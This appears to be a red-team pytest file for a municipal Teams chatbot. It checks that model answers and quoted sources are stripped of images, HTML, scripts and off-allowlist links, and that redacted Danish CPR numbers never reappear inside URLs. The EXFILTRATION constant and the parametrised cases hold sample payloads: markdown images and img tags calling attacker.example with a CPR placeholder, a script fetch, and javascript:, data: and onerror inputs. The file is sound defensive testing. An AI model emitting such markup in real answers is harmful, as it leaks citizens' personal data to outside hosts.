"""Finding 2: what a model writes cannot carry data out. Images, raw HTML and links to unknown hosts
never reach Teams (or any door), and personal data is never restored inside a URL."""

from __future__ import annotations

import pytest

from bot.llm.output import LinkPolicy, sanitise
from bot.llm.pii import Redactor
from tests.redteam.conftest import CPR, EMPLOYEE, Municipality

EXFILTRATION = (
    "Borgeren ⟦CPR-1⟧ betaler 800 kr. [1]. ![logo](http://attacker.example/p.png?q=⟦CPR-1⟧) "
    '<img src="https://attacker.example/i.gif?d=⟦CPR-1⟧"> <script>fetch("https://attacker.example")</script> '
    "[klik her](https://attacker.example/?d=⟦CPR-1⟧) og https://attacker.example/raw?⟦CPR-1⟧ "
    "samt [vejledningen](https://www.aarhus.dk/borger/licens) [2]. "
    "![ref][logo]\n\n[logo]: https://attacker.example/ref.png?⟦CPR-1⟧\n"
)


async def test_an_exfiltrating_answer_reaches_teams_harmless(municipality: Municipality) -> None:
    municipality.services.settings.link_hosts = ["aarhus.dk"]
    await municipality.specialist("Licens", "# Licens\n\nBeboerlicensen koster 800 kr. om året.", public=True)
    municipality.external.reply = EXFILTRATION
    final = await municipality.teams(EMPLOYEE, f"Hvad koster beboerlicensen om året for {CPR}?")
    text = final["text"]
    assert "attacker.example" not in text
    assert "<img" not in text and "<script" not in text and "![" not in text
    assert "[vejledningen](https://www.aarhus.dk/borger/licens)" in text  # an allowed link survives
    assert "klik her" in text  # a refused link keeps its words
    assert CPR in text  # restored where it is plain text the user reads
    assert CPR not in "".join(p for p in text.split() if "http" in p)
    sent = municipality.sent_to(municipality.external)
    assert CPR not in sent and "⟦CPR-1⟧" in sent


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://a.example/p.png)", "x"),
        ("![](https://www.aarhus.dk/logo.png)", ""),  # no images at all, even from allowed hosts
        ("<b>fed</b> tekst", "fed tekst"),
        ("<iframe src=x></iframe>rest", "rest"),
        ("[a](javascript:alert(1))", "a"),
        ("[a](data:text/html;base64,xx)", "a"),
        ("[a](http://www.aarhus.dk/x)", "a"),  # http is never kept
        ("[a](https://www.aarhus.dk.attacker.example/x)", "a"),
        ("[a](https://user@www.aarhus.dk/x)", "a"),
        ("[a](https://www.aarhus.dk/x)", "[a](https://www.aarhus.dk/x)"),
        # an allowed bare URL becomes an explicit link to the URL that was checked
        ("se https://aarhus.dk/y.", "se [https://aarhus.dk/y](https://aarhus.dk/y)."),
        ("se www.attacker.example/y", "se (link fjernet)"),
        ("<https://attacker.example>", "(link fjernet)"),
        # "(side 2)" is no link target in CommonMark: it stays words, and cannot make [1] a link
        ("Svaret står i [1](side 2) og [3].", "Svaret står i [1]\\(side 2) og [3]."),
        ("Svaret står i [1](https://attacker.example/) og [3].", "Svaret står i [1] og [3]."),
        ("<!-- skjult --> synligt", "synligt"),
        ("ufærdigt <img src=x onerror=y", "ufærdigt"),
    ],
)
def test_sanitise(written: str, shown: str) -> None:
    assert sanitise(written, LinkPolicy(["aarhus.dk"])) == shown


def test_placeholders_are_never_restored_inside_urls() -> None:
    redactor = Redactor()
    redacted = redactor.redact(f"CPR {CPR}").text
    assert redacted == "CPR ⟦CPR-1⟧"
    text = "Borgeren ⟦CPR-1⟧: [⟦CPR-1⟧](https://www.aarhus.dk/?q=⟦CPR-1⟧) og https://www.aarhus.dk/⟦CPR-1⟧"
    restored = sanitise(text, LinkPolicy(["aarhus.dk"]), restore=redactor.restore)
    # the serialised URL that was checked; the placeholder in it percent-encoded, never the value
    target = "https://www.aarhus.dk/?q=%E2%9F%A6CPR-1%E2%9F%A7"
    assert restored.startswith(f"Borgeren {CPR}: [{CPR}]({target})")
    assert restored.endswith(
        "[https://www.aarhus.dk/%E2%9F%A6CPR-1%E2%9F%A7](https://www.aarhus.dk/%E2%9F%A6CPR-1%E2%9F%A7)"
    )
    assert CPR not in restored.split(":", 1)[1].replace(f"[{CPR}]", "")
    # the Redactor's own restore for display does the same (and keeps no link without a policy)
    shown = redactor.restore_outside_links(text, LinkPolicy(["aarhus.dk"]))
    assert shown == restored
    assert redactor.restore_outside_links(text).startswith(f"Borgeren {CPR}: {CPR} og ")


async def test_passages_quoted_from_a_hostile_source_are_made_safe_too(
    make_services,
    tmp_path,  # type: ignore[no-untyped-def]
) -> None:
    """Without a model the bot quotes passages ("sources only") and /kilde shows one in full: a source
    that carries an image or a script must not reach Teams as one either."""
    from bot.conversation.types import ConversationRef, Incoming, User
    from bot.services import Actor

    services = make_services(admins="bld")
    app, builder = services.app, Actor("bld")
    spec = app.specialists.create(builder, "Web")
    page = "# Licens\n\nBeboerlicensen koster 800 kr. ![x](https://attacker.example/p.png) <img src=x> se [her](https://attacker.example/)."
    await app.sources.add(builder, spec, "licens.md", page.encode())
    app.specialists.use(Actor("bld", conversation=ConversationRef(id="a:bld")), spec.slug)

    def ask(text: str) -> Incoming:
        return Incoming(
            text=text, user=User(id="29:bld", aad_object_id="bld"), conversation=ConversationRef(id="a:bld")
        )

    answer = await services.dispatcher.handle(ask("Hvad koster beboerlicensen?"))
    assert "800 kr." in answer.text and "attacker.example" not in answer.text and "<img" not in answer.text
    # the citations (Teams' citation cards, the stored message) carry the same passage: made safe too
    assert answer.citations and all("800 kr." in c.text for c in answer.citations)
    assert not any("attacker.example" in c.text or "<img" in c.text for c in answer.citations)
    full = await services.dispatcher.handle(ask("/kilde 1"))
    assert "800 kr." in full.text and "attacker.example" not in full.text and "<img" not in full.text
